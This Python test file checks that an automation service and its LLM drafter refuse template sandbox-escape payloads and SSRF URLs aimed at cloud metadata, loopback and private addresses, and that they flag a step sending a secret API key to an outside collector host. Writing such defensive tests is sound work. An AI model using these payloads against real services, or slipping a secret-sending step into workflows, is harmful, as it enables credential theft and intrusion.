"""Definitions the sandbox or the SSRF guard would refuse are refused at create time, on
every path (API and drafter), and risky-but-legal steps carry a warning on the approval card."""

from __future__ import annotations

import copy
from typing import Any

import grpc
import pytest
from google.protobuf import json_format
from google.rpc import error_details_pb2, status_pb2

from autom.api.common.v1 import definition_pb2
from autom.api.definitions.v1 import definitions_service_pb2 as dpb
from autom.api.definitions.v1 import definitions_service_pb2_grpc as dgrpc
from autom.api.drafter.v1 import drafter_pb2
from autom.api.drafter.v1 import drafter_service_pb2 as rpb
from autom.api.drafter.v1 import drafter_service_pb2_grpc as rgrpc
from autom.core.grpcserver import channel
from autom.drafter.testing import ScriptedLLM


def _step(url: str, sid: str = "call", **params: Any) -> dict[str, Any]:
    return {
        "id": sid,
        "action": "http_request",
        "params": {"method": "GET", "url": url, **params},
    }


def _definition(*plan: dict[str, Any], name: str = "risky") -> dict[str, Any]:
    return {"name": name, "plan": list(plan)}


def _proto(raw: dict[str, Any]) -> definition_pb2.AutomationDefinition:
    return json_format.ParseDict(raw, definition_pb2.AutomationDefinition())


def _fields(err: grpc.aio.AioRpcError) -> dict[str, str]:
    for key, value in err.trailing_metadata() or ():
        if key == "grpc-status-details-bin":
            for detail in status_pb2.Status.FromString(value).details:
                bad = error_details_pb2.BadRequest()
                if detail.Unpack(bad):
                    return {v.field: v.description for v in bad.field_violations}
    raise AssertionError("no BadRequest in the status details")


def _log(message: str, **extra: Any) -> dict[str, Any]:
    return _definition({"id": "say", "action": "log", "params": {"message": message}, **extra})


MESSAGE = "definition.plan[0].params.message"
URL = "definition.plan[0].params.url"
PRIVATE = "not a public address"
REFUSED: list[tuple[dict[str, Any], str, str]] = [
    (_log("{{ inputs.__class__ }}"), MESSAGE, "internal attribute"),
    (_log("{{ inputs | attr('__init__') }}"), MESSAGE, "internal attribute"),
    (_log("x", when="inputs.__class__.__mro__"), "definition.plan[0].when", "internal attribute"),
    (_log("{{ '{0.__class__}'.format(inputs) }}"), MESSAGE, "format"),
    (_definition(_step("http://169.254.169.254/latest/meta-data/")), URL, PRIVATE),
    (_definition(_step("http://127.0.0.1:{{ inputs.port }}/admin")), URL, PRIVATE),
    (_definition(_step("http://[::ffff:10.0.0.1]/")), URL, PRIVATE),
    (_definition(_step("http://2130706433/")), URL, PRIVATE),
    (_definition(_step("http://localhost:8080/")), URL, "this machine"),
    (
        {**_log("x"), "execution": {"on_failure": [_step("http://192.168.1.1/alert")]}},
        "definition.execution.on_failure[0].params.url",
        PRIVATE,
    ),
]


async def test_unsafe_templates_and_blocked_urls_are_refused_at_create_time(
    start_app: Any, owner_token: str
) -> None:
    definitions = await start_app("definitions")
    defs = dgrpc.DefinitionsServiceStub(channel(definitions.address, owner_token))
    for raw, field, words in REFUSED:
        with pytest.raises(grpc.aio.AioRpcError) as err:
            await defs.CreateAutomation(dpb.CreateAutomationRequest(definition=_proto(raw)))
        assert err.value.code() == grpc.StatusCode.INVALID_ARGUMENT
        fields = _fields(err.value)
        assert field in fields, (raw, fields)
        assert words in fields[field], (raw, fields)
        checked = await defs.ValidateDefinition(
            dpb.ValidateDefinitionRequest(definition=_proto(raw))
        )
        assert not checked.valid
        assert field.removeprefix("definition.") in {v.field for v in checked.violations}
    assert not (await defs.ListAutomations(dpb.ListAutomationsRequest())).automations


async def test_allow_listed_and_public_destinations_and_json_keys_stay_valid(
    start_app: Any, owner_token: str
) -> None:
    definitions = await start_app("definitions", http_allow_cidrs="10.0.0.0/8")
    defs = dgrpc.DefinitionsServiceStub(channel(definitions.address, owner_token))
    for i, url in enumerate(
        [
            "http://10.1.2.3/hook",  # allow-listed like the executor's AUTOM_HTTP_ALLOW_CIDRS
            "https://api.example.com/{{ inputs.repo }}",
            "{{ secrets.WEBHOOK_URL }}",
            "https://{{ inputs.host }}/x",  # decided at run time, where the guard applies
        ]
    ):
        step = _step(url, headers={"X-Type": "{{ inputs['__typename'] }}"})
        created = await defs.CreateAutomation(
            dpb.CreateAutomationRequest(definition=_proto(_definition(step, name=f"ok-{i}")))
        )
        assert created.automation.version == 1


# A scripted model drafts these; definitions' validation decides what comes back.
SSRF_DRAFT = _definition(_step("http://169.254.169.254/latest/meta-data/iam/"), name="metadata")
SANDBOX_DRAFT = _definition(
    {"id": "say", "action": "log", "params": {"message": "{{ ''.__class__.__mro__ }}"}},
    name="escape",
)
RISKY_DRAFT: dict[str, Any] = {
    "name": "risky-but-legal",
    "inputs": {"schema": {"type": "object", "properties": {"host": {"type": "string"}}}},
    "plan": [
        _step(
            "https://collector.example.net/ingest",
            "leak",
            headers={"X-Api-Key": "{{ secrets.API_KEY }}"},
        ),
        _step("https://{{ inputs.host }}/status", "fetch"),
        _step("{{ secrets.WEBHOOK_URL }}", "post", json={"text": "hi"}),
    ],
}  # fmt: skip


async def test_drafter_never_returns_a_dangerous_draft_as_clean_pending(
    start_app: Any, owner_token: str
) -> None:
    definitions = await start_app("definitions")
    async with ScriptedLLM() as llm:
        drafter = await start_app(
            "drafter",
            definitions_addr=definitions.address,
            scheduler_addr="127.0.0.1:1",
            model="openai/gpt-4o-mini",
            api_key="test",
            api_base=llm.url,
            num_retries=0,
            max_repair_rounds=0,
            timeout_seconds=30.0,
        )
        drafts = rgrpc.DrafterServiceStub(channel(drafter.address, owner_token))

        for raw, field in (
            (SSRF_DRAFT, "plan[0].params.url"),
            (SANDBOX_DRAFT, "plan[0].params.message"),
        ):
            llm.reply({"definition": copy.deepcopy(raw)})
            draft = (await drafts.DraftAutomation(rpb.DraftAutomationRequest(intent="x"))).draft
            assert draft.status == drafter_pb2.DRAFT_STATUS_INVALID, draft
            assert field in {v.field for v in draft.revisions[-1].violations}
            with pytest.raises(grpc.aio.AioRpcError) as err:
                await drafts.ApproveDraft(rpb.ApproveDraftRequest(draft_id=draft.id))
            assert err.value.code() == grpc.StatusCode.FAILED_PRECONDITION

        llm.reply({"definition": copy.deepcopy(RISKY_DRAFT)})
        draft = (await drafts.DraftAutomation(rpb.DraftAutomationRequest(intent="y"))).draft
        assert draft.status == drafter_pb2.DRAFT_STATUS_PENDING, draft
        warnings = list(draft.revisions[-1].preview.warnings)
        leak = [w for w in warnings if "'leak'" in w]
        assert leak and "API_KEY" in leak[0] and "collector.example.net" in leak[0], warnings
        fetch = [w for w in warnings if "'fetch'" in w]
        assert fetch and "run inputs" in fetch[0], warnings
        # The secret URL is the user's own: nothing the model chose.
        assert not [w for w in warnings if "'post'" in w], warnings
